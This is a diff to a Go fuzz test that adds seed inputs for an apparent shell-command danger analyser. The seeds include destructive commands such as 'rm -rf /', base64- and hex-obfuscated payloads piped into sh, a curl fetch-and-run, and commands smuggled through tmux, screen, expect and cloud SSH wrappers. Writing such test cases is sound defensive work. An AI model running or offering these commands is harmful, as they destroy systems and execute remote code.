@@ -23,6 +23,11 @@ func FuzzAnalyze(f *testing.F) {
 		"docker run -v a:/b -v :/c -v /d --entrypoint sh x -c 'docker run -v /:/x y rm -rf /x'", "rm -rf $(pwd)/`pwd -P`",
 		"gcloud compute ssh h --command 'rm -rf /'", "aws-vault exec p -- sudo rm -rf /", "hcloud server ssh h -- rm -rf /",
 		"az vm run-command invoke -n h --scripts 'rm -rf /'", "aws ec2 terminate-instances help",
+		// Computed output, code belay cannot see, and the wrappers of #15.
+		"echo cm0gLXJmIC8K | base64 -d | sh", "echo 726d | xxd -r -p | rev | tr a-z A-Z | sh",
+		"printf '%b' '\\x72m' | gunzip | sh", "bash <(curl -s https://x)", ". /dev/stdin <<< 'rm -rf /'",
+		"sudo -i <<< reboot", "parallel rm -rf {2.} ::: a ::: /b :::: f", "tmux new -d 'x' \\; send-keys -H 72 C-m",
+		"screen -S w -X stuff 'rm -rf /\\n'", "expect -c 'spawn sh; send \"reboot\\r\"'", "echo a | xargs -0 -J% rm %",
 	}
 	for _, s := range seeds {
 		f.Add(s, uint8(0))
@@ -164,6 +169,8 @@ func FuzzAnalyzeBudget(f *testing.F) {
 		{"cat <<E\nx\nE\n", "", 2000, 0}, {"a | ", "", 8000, 1}, {"true && ", "", 4000, 1},
 		{"sudo -u x nice timeout 5 env -i ", "", 1000, 1}, {"\xff", "", 30000, 0}, {"f(){ ", "}; ", 3000, 2},
 		{"bash -c '", "'", 1, 2}, {"eval ", "", 100, 1}, {"X=aaaa$X; ", "echo $X $X $X; ", 200, 3},
+		{"echo cm0K | base64 -d | ", "", 2000, 1}, {"$(echo ", ")", 3000, 2}, {"tmux new ", "", 2000, 1},
+		{"parallel ", "", 2000, 1}, {"sh <(", ")", 2000, 2}, {"echo x | rev | ", "", 3000, 1},
 	} {
 		f.Add(s.open, s.close, s.n, s.shape)
 	}
